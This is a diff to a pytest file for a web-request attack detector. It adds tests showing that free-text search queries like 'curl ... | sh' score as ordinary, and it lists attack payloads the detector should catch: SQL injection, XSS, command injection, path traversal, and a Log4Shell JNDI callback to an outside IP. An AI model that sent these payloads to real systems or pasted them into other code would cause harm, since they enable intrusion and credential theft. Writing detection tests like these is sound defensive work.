@@ -64,11 +64,35 @@ def test_code_where_visitors_search_for_code_is_ordinary(detector: Detector, pro
 
 
 @pytest.mark.parametrize(
+    "text",
+    [
+        "union all select null",
+        "cat /etc/hosts",
+        "curl -s https://example.com | sh",
+        "__proto__",
+        "$_GET[",
+        "sleep(",
+        "{% for x in y %} summer",
+        "../../lib/util.js",
+    ],
+)
+def test_what_people_write_about_is_ordinary_where_they_write_freely(
+    text: str, detector: Detector, profiles: Profiles
+) -> None:
+    target = f"/search?q={quote(text)}"
+    assert score(target, detector, profiles) < 0.5
+    assert score(f"/item?id={quote(text)}", detector, profiles) >= score(target, detector, Profiles())
+
+
+@pytest.mark.parametrize(
     "payload",
     [
         "1' or 1=1-- ",
-        "1 union select password from users--",
         "1 and sleep(5)",
+        "shoes') union select 1,2#",
+        "<script>alert(1)</script>",
+        "|id",
+        "1 union select password from users--",
         ";cat /etc/passwd",
         "${jndi:ldap://203.0.113.9/x}",
         "../../../../etc/passwd",
@@ -223,7 +247,7 @@ def test_the_explanation_says_what_the_batch_does(detector: Detector, profiles: 
         ((attack, rules),) = judged([row], detector, site)
         assert (found.attack, " ".join(found.rules) or None) == (attack, rules)
     against, departs, excepted, _ = (explain(row, detector, site) for row, site in cases)
-    assert "'q' holds code for" in against.verdict
+    assert "'q' holds free text of 177 unrelated visitors" in against.verdict
     assert against.context[0]["kind"] == "against"
     assert "'id' holds digits alone for" in departs.verdict
     assert "ann excepted verify.sql here: a course" in excepted.verdict
